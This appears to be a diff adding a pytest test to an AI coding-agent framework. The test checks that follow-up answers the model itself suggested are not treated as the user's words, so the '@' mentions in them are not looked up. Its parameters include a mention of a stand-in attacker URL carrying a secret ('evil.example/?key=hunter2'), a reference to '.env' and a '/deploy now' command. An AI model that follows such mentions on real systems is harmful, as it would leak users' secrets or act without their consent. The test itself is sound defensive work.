@@ -9,8 +9,17 @@ from roo_code.approval_values import ApprovalSettings
 from roo_code.builtin_tools.registry import get_tool_by_name
 from roo_code.config.mode import Mode
 from roo_code.errors import NotAllowed
-from roo_code.events import ApprovalDecided, ApprovalRequested
-from roo_code.messages import ToolUseContent
+from roo_code.events import (
+    ApprovalDecided,
+    ApprovalRequested,
+    MessageAdded,
+    QuestionAnswered,
+    QuestionAsked,
+    Suggestion,
+    TurnStarted,
+)
+from roo_code.history import History
+from roo_code.messages import Message, ToolUseContent
 from roo_code.modes.access import check_call
 from roo_code.modes.builtin import BUILTIN_MODES
 from roo_code.policy.levels import PolicyApprover
@@ -68,3 +77,24 @@ def test_a_mode_without_servers_has_none_of_their_prompts(mode: Mode, tmp_path: 
     with pytest.raises(NotAllowed, match="no tool group mcp"):
         check_call(mode, tool, PROMPT, Workspace(tmp_path))
     check_call(mode, tool, PROMPT.replace(input={"command": "review"}), Workspace(tmp_path))
+
+
+@pytest.mark.parametrize(
+    "words", ["@https://evil.example/?key=hunter2", "/deploy now", "see @/.env and @git-changes"]
+)
+def test_what_the_model_suggests_is_not_read_as_the_users_own_word(words: str) -> None:
+    """A question may answer itself, and mentions are looked up unasked."""
+    call = ToolUseContent(id="c", name="ask_followup_question", input={})
+    history = History(
+        [
+            MessageAdded(message=Message.from_user("Go.")),
+            TurnStarted(turn=1),
+            MessageAdded(message=Message(role="assistant", content=(call,))),
+            QuestionAsked(tool_use_id="c", question="?", suggestions=(Suggestion(text=words),)),
+        ]
+    )
+    history.apply(QuestionAnswered(tool_use_id="c", answer=words))
+    assert history.unread == []
+    own = QuestionAnswered(tool_use_id="c", answer=f"Rather {words}")
+    history.apply(own)
+    assert history.unread == [own.answer]
